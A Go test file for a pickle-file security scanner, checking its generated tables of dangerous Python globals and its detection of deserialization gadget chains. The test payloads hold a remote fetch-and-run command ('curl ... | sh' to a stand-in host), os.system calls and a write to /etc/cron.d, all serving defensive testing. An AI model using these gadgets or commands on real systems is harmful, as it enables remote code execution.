package pickle

import (
	"bytes"
	"os"
	"reflect"
	"sort"
	"strings"
	"testing"

	"github.com/mlsec/mlsec/internal/pickle/internal/callgraph"
	"github.com/mlsec/mlsec/internal/rule"
)

// TestGeneratedCurrent reruns the generator on the installed sources and
// compares its output with danger_gen.go and allow_gen.go. It needs the
// exact Debian package versions recorded in genSources; with others (or
// none) installed it skips, naming what differs.
func TestGeneratedCurrent(t *testing.T) {
	if testing.Short() {
		t.Skip("-short: the generator reads about 8000 Python files")
	}
	cfg := callgraph.Default
	vs, err := callgraph.Versions(cfg)
	if err != nil {
		t.Skipf("cannot read the installed package versions (%v); the tables were derived from %s", err, strings.Join(genSources, ", "))
	}
	if !reflect.DeepEqual(vs, genSources) {
		var diff []string
		for i := range genSources {
			if i >= len(vs) || vs[i] != genSources[i] {
				have := "?"
				if i < len(vs) {
					have = vs[i]
				}
				diff = append(diff, "want "+genSources[i]+", have "+have)
			}
		}
		t.Skipf("the installed sources differ from those the tables were derived from (%s); install them to check the tables, or run go generate ./internal/pickle to derive new ones", strings.Join(diff, "; "))
	}
	out, err := callgraph.Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	danger, err := out.DangerGo(cfg.Depth)
	if err != nil {
		t.Fatal(err)
	}
	allow, err := out.AllowGo()
	if err != nil {
		t.Fatal(err)
	}
	for name, b := range map[string][]byte{"danger_gen.go": danger, "allow_gen.go": allow} {
		have, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(have, b) {
			t.Errorf("%s is not what the generator derives from the installed sources: run go generate ./internal/pickle", name)
		}
	}
}

// TestGeneratedTables checks the committed tables are usable as the
// scanner reads them: sorted for binary search, no duplicate, every
// category known, and no allowlisted name in the dangerous tier.
func TestGeneratedTables(t *testing.T) {
	if !sort.SliceIsSorted(genDangerous, func(i, j int) bool { return genDangerous[i].name < genDangerous[j].name }) {
		t.Fatal("genDangerous is not sorted by name")
	}
	pol := NewPolicy(allProfiles...)
	for i, e := range genDangerous {
		if i > 0 && genDangerous[i-1].name == e.name {
			t.Errorf("%s is listed twice", e.name)
		}
		if e.cat < sinkExec || e.cat > sinkSecondStage || e.chain == "" {
			t.Errorf("%s: category %d, chain %q", e.name, e.cat, e.chain)
		}
		mod := e.name[:strings.LastIndexByte(e.name, '.')]
		if pol.allows(mod, e.name) {
			t.Errorf("%s is both allowlisted and derived dangerous", e.name)
		}
	}
	if len(genDangerous) < 1000 {
		t.Errorf("only %d derived entries: the generator lost most of its sources", len(genDangerous))
	}
}

// TestDerivedTier scans gadgets that only the derived tier knows: none is
// on the hand-written list, each was an unknown global before. Payloads
// are bytes; nothing is loaded.
func TestDerivedTier(t *testing.T) {
	crit, high := rule.Critical, rule.High
	cases := []struct {
		name      string
		a         *asm
		want      []want
		sink, why string // of the first issue
	}{
		{
			// mailcap.findmatch runs a capability's "test" entry with os.system.
			name: "mailcap.findmatch",
			a: newAsm().proto(2).at("g").global("mailcap", "findmatch").op(opMark, opEmptyDict).
				sbu("text/plain").op(opEmptyList, opEmptyDict, opMark).sbu("view").sbu("true").sbu("test").sbu("curl -s https://x.example/i | sh").
				op(opSetItems, opAppend, opSetItem).sbu("text/plain").op(opTuple, opReduce).stop(),
			want: []want{{ClassDangerousGlobal, crit, "mailcap.findmatch", "g"}},
			sink: "process", why: "mailcap.findmatch -> os.system",
		},
		{
			// dataclasses._create_fn execs a def whose argument list the caller
			// writes: a default value runs when the def is executed.
			name: "dataclasses._create_fn",
			a: newAsm().proto(4).sg("g", "dataclasses", "_create_fn").sbu("f").op(opEmptyList).
				sbu("x=__import__('os').system('id')").op(opAppend, opEmptyList).sbu("return x").op(opAppend, opTuple3, opReduce).stop(),
			want: []want{{ClassDangerousGlobal, crit, "dataclasses._create_fn", "g"}},
			sink: "exec", why: "dataclasses._create_fn -> builtins.exec",
		},
		{
			// smtpd.SMTPServer binds a listening socket on construction.
			name: "smtpd.SMTPServer",
			a:    newAsm().proto(2).at("g").global("smtpd", "SMTPServer").sbu("0.0.0.0").int1(25).op(opTuple2, opNone, opTuple2, opReduce).stop(),
			want: []want{{ClassDangerousGlobal, high, "smtpd.SMTPServer", "g"}},
			sink: "network", why: "socket.socket",
		},
		{
			// The wrapper's __setstate__ unpickles the bytes BUILD gives it.
			name: "torch datapipe serialization wrapper",
			a: newAsm().proto(4).sg("g", "torch.utils.data.datapipes.datapipe", "_DataPipeSerializationWrapper").
				op(opEmptyTuple, opNewObj).sbu("opaque").op(opNewFalse, opTuple2, opBuild).stop(),
			want: []want{{ClassDangerousGlobal, high, "torch.utils.data.datapipes.datapipe._DataPipeSerializationWrapper", "g"}},
			sink: "second-stage", why: "-> pickle.loads",
		},
		{
			// A method reached by its dotted name: FileType("w")'s __call__ opens for writing.
			name: "argparse.FileType.__call__ by qualified name",
			a: newAsm().proto(4).sg("g", "argparse", "FileType.__call__").op(opMark).
				sg("c", "argparse", "FileType").call1("w").sbu("/etc/cron.d/job").op(opTuple, opReduce).stop(),
			want: []want{{ClassDangerousGlobal, high, "argparse.FileType.__call__", "g"}, {ClassUnknownGlobal, high, "argparse.FileType", "c"}},
			sink: "file-write", why: "argparse.FileType.__call__ -> builtins.open(mode=w)",
		},
		{
			// typing.get_type_hints evaluates string annotations: an object
			// whose __annotations__ holds source runs it.
			name: "typing.get_type_hints",
			a: newAsm().proto(4).sg("g", "typing", "get_type_hints").
				sg("ns", "types", "SimpleNamespace").op(opEmptyTuple, opReduce, opEmptyDict).sbu("__annotations__").
				op(opEmptyDict).sbu("x").sbu("__import__('os').system('id')").op(opSetItem, opSetItem, opBuild, opTuple1, opReduce).stop(),
			want: []want{{ClassDangerousGlobal, crit, "typing.get_type_hints", "g"}},
			sink: "exec", why: "typing.get_type_hints -> typing._eval_type -> typing.ForwardRef._evaluate -> builtins.eval",
		},
		{
			// The hand list is the floor: os.system keeps its entry and no sink category.
			name: "hand-listed global",
			a:    newAsm().proto(2).at("g").global("posix", "system").call1("id").stop(),
			want: []want{{ClassDangerousGlobal, crit, "posix.system", "g"}},
		},
		{
			// The allowlist wins: the joblib wrapper class is allowed although
			// its read_array method unpickles; the method itself is dangerous.
			name: "allowlisted class, derived method",
			a: newAsm().proto(4).sg("c", "joblib.numpy_pickle", "NumpyArrayWrapper").op(opEmptyTuple, opNewObj, opPop).
				sg("m", "joblib.numpy_pickle", "NumpyArrayWrapper.read_array").op(opStop),
			want: []want{{ClassDangerousGlobal, high, "joblib.numpy_pickle.NumpyArrayWrapper.read_array", "m"}},
			sink: "second-stage", why: "NumpyArrayWrapper.read_array -> pickle.load",
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res := scanBytes(c.a.bytes(), Options{})
			checkIssues(t, res, c.a, c.want)
			if len(res.Issues) == 0 {
				return
			}
			is := res.Issues[0]
			if is.Sink != c.sink {
				t.Errorf("sink = %q, want %q", is.Sink, c.sink)
			}
			if c.why != "" && !strings.Contains(is.Message, c.why) {
				t.Errorf("message %q does not name the chain %q", is.Message, c.why)
			}
			if c.sink != "" && !strings.Contains(is.Message, "derived from the library's source") {
				t.Errorf("message %q does not say the entry is derived", is.Message)
			}
		})
	}
}
